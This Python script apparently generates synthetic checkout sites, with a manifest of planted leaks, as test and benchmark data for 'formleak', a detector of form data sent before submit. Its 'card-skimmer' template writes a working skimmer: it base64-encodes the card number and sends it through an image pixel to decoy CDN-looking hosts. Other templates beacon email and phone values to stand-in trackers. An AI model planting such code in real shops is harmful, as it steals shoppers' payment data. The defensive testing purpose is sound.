"""Generate a corpus of small synthetic shop sites for `formleak batch` (tests and throughput benchmark).

    python bench/gen_sites.py OUT --sites 300 --seed 1

writes OUT/<site>/… (one folder per site: a checkout page and its scripts, or a HAR capture) and
OUT/corpus.json, which says for every site which template made it and which pre-submit leaks were planted
(rule, field category, trigger, party) — and for the clean templates that nothing leaks. The same
(sites, seed) gives the same bytes. Everything is synthetic (no third-party code); library APIs (jQuery,
tracker SDKs) are called, never shipped, as formleak models them from rules.

Templates (chosen per site by the seed, with varied ids, names, endpoints, vendors and filler code):

| template | what leaks | expected |
| --- | --- | --- |
| clean-submit | nothing: the form is sent in its submit handler | no finding |
| clean-analytics | a page-view beacon with constant data, a click counter | no finding |
| blur-fetch | email on blur via fetch, first party | FL002 email blur |
| input-beacon | phone on input via sendBeacon to a third-party collector | FL002 phone input |
| card-skimmer | card number on change via `new Image().src`, third party | FL001 card_number change |
| jquery-post | name on blur via `$.post`, first party | FL002 name blur |
| tracker-identify | email on change via `analytics.identify` (Segment) | FL002 email change |
| zip-lookup | postal code on keyup via XHR to an address service | FL004 postal_code keyup |
| bundle | a webpack-like bundle whose one module sends the email on blur via fetch to a tracker | FL002 email blur |
| har | a HAR capture of a checkout whose script sends the phone on blur via fetch | FL002 phone blur |
"""
from __future__ import annotations

import argparse
import base64
import json
import random
import sys
from pathlib import Path

FIRST = ["Maple", "Kite", "Orchid", "Harbor", "Sakura", "Pine", "Nimbus", "Copper", "Lumen", "Fable", "Tide",
         "Ember", "Juniper", "Quartz", "Willow", "Atlas"]
SECOND = ["Goods", "Shop", "Store", "Market", "Supply", "Outfitters", "Mart", "Depot", "Boutique", "Trading"]
TRACKERS = ["collect.metricsly.example", "px.adnet-one.example", "t.audiencehub.example",
            "beacon.retargetly.example", "ingest.sessioncam.example"]
SKIM_HOSTS = ["cdn-static-img.example", "jquery-cdn-assets.example", "fonts-gstatic-cdn.example"]
ZIP_HOSTS = ["zipcloud.example", "addresslookup.example", "postcode-api.example"]


def _filler(r: random.Random, n: int) -> str:
    """Harmless shop code: formatting helpers, a cart counter, DOM building, a resize listener."""
    out = []
    for i in range(n):
        k = r.randrange(4)
        name = f"{r.choice(['fmt', 'calc', 'build', 'update', 'render'])}{r.choice(['Price', 'Cart', 'Badge', 'Menu', 'Tax'])}{i}"
        if k == 0:
            out.append(f"function {name}(v) {{ var n = Number(v) || 0; return (n * {r.randint(101, 120)} / 100).toFixed(2); }}")
        elif k == 1:
            out.append(f"function {name}(items) {{ var t = 0; for (var i = 0; i < items.length; i++) {{ t += items[i].qty; }} "
                       f"var b = document.querySelector('.cart-count'); if (b) {{ b.textContent = String(t); }} return t; }}")
        elif k == 2:
            out.append(f"function {name}(label) {{ var li = document.createElement('li'); li.className = 'nav-{i}'; "
                       f"li.textContent = label; return li; }}")
        else:
            out.append(f"window.addEventListener('resize', function () {{ document.body.dataset.w{i} = String(window.innerWidth); }});")
    return "\n".join(out) + "\n"


def _page(title: str, fields: list[tuple[str, str, str, str]], scripts: list[str], form_id: str = "checkout",
          canonical: str | None = None) -> str:
    """fields: (tag id, name, type, autocomplete)."""
    rows = []
    for fid, name, typ, auto in fields:
        rows.append(f'  <label for="{fid}">{name.replace("_", " ").title()}</label>\n'
                    f'  <input id="{fid}" name="{name}" type="{typ}" autocomplete="{auto}">')
    head = f'<link rel="canonical" href="{canonical}">' if canonical else ""
    tags = "\n".join(f'<script src="{s}"></script>' for s in scripts)
    return (f'<!doctype html>\n<html lang="en">\n<head><meta charset="utf-8"><title>{title} checkout</title>{head}</head>\n'
            f'<body>\n<form id="{form_id}" action="/orders" method="post">\n' + "\n".join(rows) +
            '\n  <button type="submit">Place order</button>\n</form>\n' + tags + "\n</body>\n</html>\n")


def _submit(form_id: str, endpoint: str) -> str:
    return (f"document.getElementById('{form_id}').addEventListener('submit', function (e) {{\n"
            f"  e.preventDefault();\n"
            f"  fetch('{endpoint}', {{ method: 'POST', body: new FormData(e.target) }});\n}});\n")


# ------------------------------------------------------------------------------------------ templates
# Each returns ({relative path: bytes}, [planted leaks]).

def t_clean_submit(r, title):
    fid = r.choice(["checkout", "order-form", "co"])
    email = r.choice(["email", "billing_email", "customer-email"])
    js = _filler(r, r.randint(2, 5)) + _submit(fid, r.choice(["/api/orders", "/checkout/place", "/orders/new"]))
    html = _page(title, [(email, "email", "email", "email"), ("full_name", "full_name", "text", "name")],
                 ["checkout.js"], form_id=fid)
    return {"checkout.html": html, "checkout.js": js}, []


def t_clean_analytics(r, title):
    host = r.choice(TRACKERS)
    js = (_filler(r, r.randint(1, 4)) +
          f"navigator.sendBeacon('https://{host}/pv', JSON.stringify({{ page: 'checkout', v: {r.randint(1, 9)} }}));\n"
          "var clicks = 0;\n"
          "document.querySelector('.help').addEventListener('click', function () { clicks += 1; });\n" +
          _submit("checkout", "/api/orders"))
    html = _page(title, [("email", "email", "email", "email")], ["analytics.js"])
    html = html.replace("</form>", '</form>\n<a class="help" href="/help">Help</a>')
    return {"index.html": html, "analytics.js": js}, []


def t_blur_fetch(r, title):
    email = r.choice(["email", "billing_email", "customer_email"])
    ep = r.choice(["/api/cart/capture", "/abandoned-cart/save", "/wp-json/cart/v1/lead"])
    js = (_filler(r, r.randint(1, 4)) +
          f"(function () {{\n  var field = document.getElementById('{email}');\n"
          f"  field.addEventListener('blur', function () {{\n"
          f"    fetch('{ep}', {{ method: 'POST', body: JSON.stringify({{ email: field.value, cart: window.CART }}) }});\n"
          f"  }});\n}})();\n" + _submit("checkout", "/api/orders"))
    html = _page(title, [(email, email, "email", "email"), ("full_name", "full_name", "text", "name")], ["cart.js"])
    return {"checkout.html": html, "js/cart.js": js}, [
        {"rule": "FL002", "category": "email", "trigger": "blur", "party": "first_party"}]


def _fix_src(files: dict, old: str, new: str) -> dict:
    return {k: (v.replace(f'src="{old}"', f'src="{new}"') if k.endswith(".html") else v) for k, v in files.items()}


def t_input_beacon(r, title):
    host = r.choice(TRACKERS)
    phone = r.choice(["phone", "tel", "billing_phone"])
    js = (f"var phoneField = document.querySelector('#{phone}');\n"
          f"phoneField.addEventListener('input', function (e) {{\n"
          f"  navigator.sendBeacon('https://{host}/c', 'p=' + encodeURIComponent(e.target.value));\n}});\n" +
          _filler(r, r.randint(1, 3)))
    html = _page(title, [("email", "email", "email", "email"), (phone, phone, "tel", "tel")], ["track.js"])
    return {"index.html": html, "track.js": js}, [
        {"rule": "FL002", "category": "phone", "trigger": "input", "party": "third_party"}]


def t_card_skimmer(r, title):
    host = r.choice(SKIM_HOSTS)
    cc = r.choice(["cc-number", "card_number", "cardnum"])
    js = (_filler(r, r.randint(1, 3)) +
          f"document.getElementById('{cc}').addEventListener('change', function () {{\n"
          f"  var img = new Image();\n"
          f"  img.src = 'https://{host}/pixel.gif?d=' + btoa(this.value);\n}});\n")
    html = _page(title, [(cc, cc, "text", "cc-number"), ("cc-exp", "cc-exp", "text", "cc-exp")], ["theme.js"])
    return {"checkout.html": html, "assets/theme.js": js}, [
        {"rule": "FL001", "category": "card_number", "trigger": "change", "party": "third_party"}]


def t_jquery_post(r, title):
    name = r.choice(["full_name", "billing_name", "customer_name"])
    js = (f"jQuery(function ($) {{\n  $('#{name}').on('blur', function () {{\n"
          f"    $.post('/ajax/save-lead', {{ name: $(this).val() }});\n  }});\n}});\n" + _filler(r, r.randint(1, 3)))
    html = _page(title, [(name, name, "text", "name"), ("email", "email", "email", "email")], ["lead.js"])
    return {"checkout.html": html, "lead.js": js}, [
        {"rule": "FL002", "category": "name", "trigger": "blur", "party": "first_party"}]


def t_tracker_identify(r, title):
    email = r.choice(["email", "contact_email"])
    js = (f"var em = document.getElementById('{email}');\n"
          f"em.addEventListener('change', function () {{\n"
          f"  analytics.identify({{ email: em.value }});\n}});\n" + _filler(r, r.randint(1, 3)))
    html = _page(title, [(email, email, "email", "email")], ["segment-setup.js"])
    return {"index.html": html, "segment-setup.js": js}, [
        {"rule": "FL002", "category": "email", "trigger": "change", "party": "third_party"}]


def t_zip_lookup(r, title):
    host = r.choice(ZIP_HOSTS)
    js = (_filler(r, r.randint(1, 3)) +
          "var zip = document.getElementById('postcode');\n"
          "zip.addEventListener('keyup', function () {\n"
          "  if (zip.value.length < 5) { return; }\n"
          "  var x = new XMLHttpRequest();\n"
          f"  x.open('GET', 'https://{host}/api/search?zipcode=' + zip.value);\n"
          "  x.send();\n});\n")
    html = _page(title, [("postcode", "postcode", "text", "postal-code"), ("city", "city", "text", "address-level2")],
                 ["address.js"])
    return {"checkout.html": html, "address.js": js}, [
        {"rule": "FL004", "category": "postal_code", "trigger": "keyup", "party": "third_party"}]


def t_bundle(r, title):
    host = r.choice(TRACKERS)
    mods = []
    n = r.randint(3, 6)
    leak_at = r.randrange(n)
    for i in range(n):
        if i == leak_at:
            mods.append(f"{i}:function(e,t,n){{var o=document.getElementById('email');o.addEventListener('blur',"
                        f"function(){{fetch('https://{host}/l',{{method:'POST',body:JSON.stringify({{e:o.value}})}})}})}}")
        else:
            mods.append(f"{i}:function(e,t,n){{t.f{i}=function(a){{return a*{r.randint(2, 9)}+{i}}}}}")
    js = ("(()=>{var e={" + ",".join(mods) + "},r={};function n(t){var o=r[t];if(void 0!==o)return o.exports;"
          "var i=r[t]={exports:{}};return e[t](i,i.exports,n),i.exports}" +
          "".join(f"n({i});" for i in range(n)) + "})();\n")
    html = _page(title, [("email", "email", "email", "email"), ("zip", "zip", "text", "postal-code")],
                 ["dist/main.js"])
    return {"index.html": html, "dist/main.js": js}, [
        {"rule": "FL002", "category": "email", "trigger": "blur", "party": "third_party"}]


def t_har(r, title):
    origin = f"https://www.{title.lower().replace(' ', '-')}.example"
    phone = r.choice(["phone", "billing_phone"])
    js = (f"document.getElementById('{phone}').addEventListener('blur', function (e) {{\n"
          f"  fetch('/api/lead?tel=' + encodeURIComponent(e.target.value));\n}});\n" + _filler(r, 2))
    html = _page(title, [(phone, phone, "tel", "tel"), ("email", "email", "email", "email")], ["/static/lead.js"])
    entries = [
        {"request": {"method": "GET", "url": origin + "/checkout"},
         "response": {"status": 200, "content": {"mimeType": "text/html; charset=utf-8", "text": html}}},
        {"request": {"method": "GET", "url": origin + "/static/lead.js"},
         "response": {"status": 200, "content": {"mimeType": "application/javascript",
                                                 "text": base64.b64encode(js.encode()).decode(),
                                                 "encoding": "base64"}}},
    ]
    har = json.dumps({"log": {"version": "1.2", "creator": {"name": "gen_sites", "version": "1"},
                              "entries": entries}}, indent=1, sort_keys=True)
    return {"visit.har": har}, [
        {"rule": "FL002", "category": "phone", "trigger": "blur", "party": "first_party"}]


TEMPLATES = {
    "clean-submit": t_clean_submit, "clean-analytics": t_clean_analytics, "blur-fetch": t_blur_fetch,
    "input-beacon": t_input_beacon, "card-skimmer": t_card_skimmer, "jquery-post": t_jquery_post,
    "tracker-identify": t_tracker_identify, "zip-lookup": t_zip_lookup, "bundle": t_bundle, "har": t_har,
}


def _files_fixed(name: str, files: dict) -> dict:
    # scripts placed under a sub-folder: point the page at them
    if "js/cart.js" in files:
        files = _fix_src(files, "cart.js", "js/cart.js")
    if "assets/theme.js" in files:
        files = _fix_src(files, "theme.js", "assets/theme.js")
    return files


def generate(out: Path, sites: int, seed: int = 1, filler: int = 0) -> dict:
    """Write `sites` sites under `out` and `out/corpus.json`; return the corpus description. `filler` adds
    that many harmless shop functions to each site (in `vendor-ui.js`, a script of the page), for sites of
    a more realistic size (about 130 bytes each); 0 keeps the sites tiny."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    names = sorted(TEMPLATES)
    corpus = {}
    width = len(str(max(sites - 1, 1)))
    for i in range(sites):
        r = random.Random(f"{seed}:{i}")
        template = names[r.randrange(len(names))]
        title = f"{r.choice(FIRST)} {r.choice(SECOND)} {i}"
        files, leaks = TEMPLATES[template](r, title)
        files = _files_fixed(template, files)
        if filler and template != "har":
            files["vendor-ui.js"] = _filler(random.Random(f"{seed}:{i}:filler"), filler)
            files = {k: (v.replace("</body>", '<script src="vendor-ui.js"></script>\n</body>')
                         if k.endswith(".html") else v) for k, v in files.items()}
        site = f"site-{i:0{width}d}"
        for rel, text in sorted(files.items()):
            p = out / site / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(text.encode("utf-8"))
        corpus[site] = {"template": template, "leaks": leaks}
    (out / "corpus.json").write_text(json.dumps(corpus, indent=1, sort_keys=True) + "\n", encoding="utf-8")
    return corpus


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out", type=Path, help="folder to write the sites into")
    ap.add_argument("--sites", type=int, default=200, help="number of sites (default 200)")
    ap.add_argument("--seed", type=int, default=1, help="seed (default 1)")
    ap.add_argument("--filler", type=int, default=0,
                    help="harmless functions added to each site (default 0: tiny sites)")
    args = ap.parse_args(argv)
    corpus = generate(args.out, args.sites, args.seed, args.filler)
    counts: dict[str, int] = {}
    for v in corpus.values():
        counts[v["template"]] = counts.get(v["template"], 0) + 1
    print(f"{len(corpus)} sites in {args.out}: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())),
          file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
